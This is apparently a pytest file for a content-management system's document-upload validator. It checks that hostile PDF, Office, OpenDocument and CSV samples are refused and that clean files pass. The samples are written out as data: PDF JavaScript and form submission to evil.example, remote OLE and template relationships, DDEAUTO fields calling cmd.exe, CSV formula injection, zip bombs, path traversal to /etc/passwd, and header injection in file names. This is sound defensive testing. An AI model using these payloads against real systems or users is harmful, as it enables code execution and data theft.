import io
import zipfile
import zlib

import pytest

from cms.files.fields import safe_name
from cms.files.papers import KINDS, BadPaper, check_paper
from tests.factories.pdfs import a_pdf, a_stream, locked_pdf

pytestmark = pytest.mark.unit
PDF = a_pdf()
WORD = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}
SHEET = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>"}


def office(parts):
    """An office file of these parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, told in parts.items():
            archive.writestr(name, told)
    return out.getvalue()


def open_document(ending, **more):
    """An open document of this ending."""
    return office({"mimetype": KINDS[ending].encode(), "content.xml": b"<c/>", **more})


def check(name, content):
    check_paper(io.BytesIO(content), name=name, size=len(content))


def acting(told):
    """A PDF with an object that does something."""
    return a_pdf(b"<<%s>>" % told)


def packed(told, *, kind=b"/Type /ObjStm", filters=b"/Filter /FlateDecode", body=None):
    """A PDF with an object that stands in a packed stream."""
    objects = zlib.compress(b"9 0 " + told) if body is None else body
    return a_pdf(a_stream(objects, b"%s /N 1 /First 4 %s" % (kind, filters)))


def related(kind, outside=True, to="https://evil.example"):
    """The relations of a document, one of them of this kind."""
    mode = ' TargetMode="&#69;xternal"' if outside else ""
    at = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    one = f'<Relationship Id="r1" Type="{at}/{kind}" Target="{to}"{mode}/>'
    return office({**WORD, "word/_rels/document.xml.rels": f"<Relationships>{one}</Relationships>"})


def worded(told, **how):
    """A text document that says this."""
    return office({**WORD, "word/document.xml": f"<w xmlns:w='w'>{told}</w>".encode(**how)})


SCRIPT = b"<</S /JavaScript /JS (app.alert(1))>>"
FIELD = "<w:instrText>%s</w:instrText>"
HOSTILE = {
    "page": ("a.html", b"<script>alert(1)</script>", "kind"),
    "drawing": ("a.svg", b"<svg/>", "kind"),
    "archive": ("a.zip", office(WORD), "kind"),
    "program": ("a.exe", b"MZ", "kind"),
    "no-ending": ("a", PDF, "kind"),
    "macros-by-name": ("a.docm", office(WORD), "kind"),
    "large": ("a.pdf", PDF + b"0" * 10_000_000, "bytes"),
    "page-as-pdf": ("a.pdf", b"<html><script>alert(1)</script>", "broken"),
    "script-in-pdf": ("a.pdf", a_pdf(catalog=b"/OpenAction" + SCRIPT), "active"),
    "bomb": ("a.docx", office({**WORD, "word/media/a.bin": bytes(30_000_000)}), "bomb"),
    "many-parts": ("a.docx", office(WORD | {f"word/{n}.xml": b"" for n in range(2_001)}), "bomb"),
    "macros": ("a.docx", office({**WORD, "word/vbaProject.bin": b"x"}), "active"),
    "archive-inside": ("a.xlsx", office({**SHEET, "xl/a.zip": b"x"}), "active"),
    "file-inside": ("a.docx", office({**WORD, "word/embeddings/a.bin": b"x"}), "active"),
    "leads-out": ("a.docx", office({**WORD, "../../etc/passwd": b"x"}), "broken"),
    "sheet-as-text": ("a.docx", office(SHEET), "broken"),
    "plain-archive": ("a.xlsx", office({"a.txt": b"x"}), "broken"),
    "torn": ("a.docx", office(WORD)[:60], "broken"),
    "other-open-document": ("a.odt", open_document("ods"), "broken"),
    "open-macros": ("a.ods", open_document("ods", **{"Basic/Standard/a.xml": b"x"}), "active"),
    "list-of-bytes": ("a.csv", b"\xff\xfe\x00", "broken"),
    "page-as-list": ("a.csv", b"<html>", "broken"),
    "script-spelled-out": ("a.pdf", acting(b"/S /J#61vaScript"), "active"),
    "script-by-its-short-name": ("a.pdf", acting(b"/J#53\n(app.alert(1))"), "active"),
    "script-elsewhere": ("a.pdf", acting(b"/JS%\n3 0 R"), "active"),
    "script-in-a-packed-stream": ("a.pdf", packed(SCRIPT), "active"),
    "script-in-a-spelled-stream": ("a.pdf", packed(SCRIPT, kind=b"/Type /Obj#53tm"), "active"),
    "stream-packed-twice": ("a.pdf", packed(SCRIPT, filters=b"/Filter [/FlateDecode /LZW]"), "broken"),
    "stream-packed-somehow": ("a.pdf", packed(SCRIPT, filters=b"/Filter 9 0 R"), "broken"),
    "stream-that-is-none": ("a.pdf", packed(b"", body=b"zzz"), "broken"),
    "stream-without-an-end": ("a.pdf", a_pdf(b"<</Type /ObjStm /Length 9>>\nstream\n2 0 <<>>"), "broken"),
    "bomb-in-a-stream": ("a.pdf", packed(bytes(30_000_000)), "bomb"),
    "locked": ("a.pdf", locked_pdf("open", "secret"), "locked"),
    "form-that-is-sent": ("a.pdf", acting(b"/S /SubmitForm /F (https://evil.example)"), "active"),
    "another-file": ("a.pdf", acting(b"/S /GoToR /F (//evil.example/a)"), "active"),
    "object-from-outside": ("a.docx", related("oleObject", to="mhtml:https://evil.example!x"), "active"),
    "template-from-outside": ("a.docx", related("attachedTemplate"), "active"),
    "picture-from-outside": ("a.docx", related("image"), "active"),
    "page-inside": ("a.docx", related("aFChunk", outside=False, to="a.bin"), "active"),
    "running-field": ("a.docx", worded(FIELD % "DDEAUTO c:\\cmd.exe"), "active"),
    "running-field-in-pieces": ("a.docx", worded(FIELD % "DD" + "<w:b/>" + FIELD % "&#69;AUTO c"), "active"),
    "running-simple-field": ("a.docx", worded("<w:fldSimple w:instr='dde c'/>"), "active"),
    "field-in-wide-letters": ("a.docx", worded(FIELD % "DDE c", encoding="utf-16"), "broken"),
    "field-named-before": (
        "a.docx",
        office({**WORD, "word/a.xml": "<!DOCTYPE w []><w/>"}),
        "broken",
    ),
    "sheet-that-asks": ("a.xlsx", office({**SHEET, "xl/externalLinks/a.xml": "<a><ddeLink/></a>"}), "active"),
    "sheet-of-macros": ("a.xlsx", office({**SHEET, "xl/macrosheets/a.xml": "<a/>"}), "active"),
    "macros-by-kind": (
        "a.docx",
        office({**WORD, "[Content_Types].xml": '<Types><Override ContentType="a/VBA"/></Types>'}),
        "active",
    ),
    "open-script": ("a.ods", open_document("ods", **{"a.xml": "<a><office:script/></a>"}), "active"),
    "formula-behind-a-number": ("a.csv", b"a,b\n-2+3+cmd|' /C calc'!A0,1\n", "active"),
    "formula-behind-a-sign": ("a.csv", b"a,b\n+cmd|' /C calc'!A0,1\n", "active"),
    "formula-far-below": ("a.csv", b"a,b\n" + b"x,y\n" * 300 + b"x;=cmd|' /C calc'!A0\n", "active"),
    "formula-in-the-other-list": ("a.csv", b"a;b\nx,=cmd|' /C calc'!A0\n", "active"),
    "formula-between-tabs": ("a.csv", b"a\tb\nx\t=cmd|' /C calc'!A0\n", "active"),
    "formula": ("a.csv", b'name,price\nsaffron,"=HYPERLINK(""https://evil.example"")"\n', "active"),
}


@pytest.mark.parametrize(("name", "content", "why"), HOSTILE.values(), ids=HOSTILE)
def test_hostile_document_is_refused_for_what_it_is(name, content, why):
    with pytest.raises(BadPaper) as refused:
        check(name, content)

    assert refused.value.why == why


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.pdf", PDF),
        ("a.DOCX", office(WORD)),
        ("a.xlsx", office(SHEET)),
        ("a.odt", open_document("odt")),
        ("a.ods", open_document("ods")),
        ("a.csv", b"nom;prix\nsafran;-3,5\n"),
        ("a.csv", b"nom,telephone\nAya,+212 (0)5 22-33\nBrahim,-\n"),
        ("a.pdf", packed(b"<</Type /Page>>")),
        ("a.pdf", packed(b"", filters=b"", body=b"9 0 <</Type /Page>>")),
        ("a.pdf", locked_pdf("", "secret")),
        ("a.pdf", acting(b"/S /URI /URI (https://moussem.example/js)")),
        ("a.pdf", a_pdf(a_stream(b"\x00/JS\x91"))),
        ("a.docx", related("hyperlink")),
        ("a.docx", related("image", outside=False, to="media/a.png")),
        ("a.docx", worded(FIELD % "PAGE" + "<w:t>DDE</w:t>")),
        ("a.odt", open_document("odt", **{"styles.xml": b"<a><office:scripts/></a>"})),
    ],
)
def test_honest_document_is_taken(name, content):
    assert check(name, content) is None


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("Règlement d'accès.PDF", "reglement-dacces.pdf"),
        ('a"\r\nSet-Cookie: x.pdf', "a-set-cookie-x.pdf"),
        ("زعفران.pdf", "document.pdf"),
        ("a" * 200 + ".csv", "a" * 60 + ".csv"),
        ("../../x.php.pdf", "xphp.pdf"),
    ],
)
def test_name_of_a_document_is_one_that_every_disk_takes(name, kept):
    assert safe_name(name) == kept
